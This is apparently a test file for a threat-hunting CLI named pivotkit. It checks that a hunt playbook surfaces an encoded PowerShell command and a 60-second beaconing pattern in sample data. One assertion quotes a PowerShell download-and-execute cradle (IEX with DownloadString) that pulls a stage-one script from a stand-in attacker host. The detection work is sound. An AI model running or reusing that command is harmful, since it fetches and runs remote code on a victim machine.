import { expect, test } from 'vitest';
import { pivotkit } from './run-cli.ts';

test(
  'the hunt finds the encoded command and the rhythm of the sample week, and asks nobody',
  { timeout: 60_000 },
  async () => {
    const { code, out, err } = await pivotkit(['run', 'examples/playbooks/hunt.yaml']);
    expect(code).toBe(0);
    expect(out + err).toContain(
      "IEX (New-Object Net.WebClient).DownloadString('http://updates.cdn-telemetry.example.org/a/stage1.ps1')",
    );
    // The other side is one of the addresses of the sample story: 60 seconds, with a third of the check-ins missing.
    expect(out + err).toMatch(/10\.20\.1\.107\s+30\.77\.161\.42\s+60\.0\d+/);
  },
);

test('help of a verb whose plugin is called like an entity', { timeout: 60_000 }, async () => {
  const { code, out } = await pivotkit(['--plugin', 'process', 'help', 'process.render']);
  expect([code, out.split('\n', 1)[0]]).toEqual([0, expect.stringContaining('process.render — Draws a process tree')]);
});
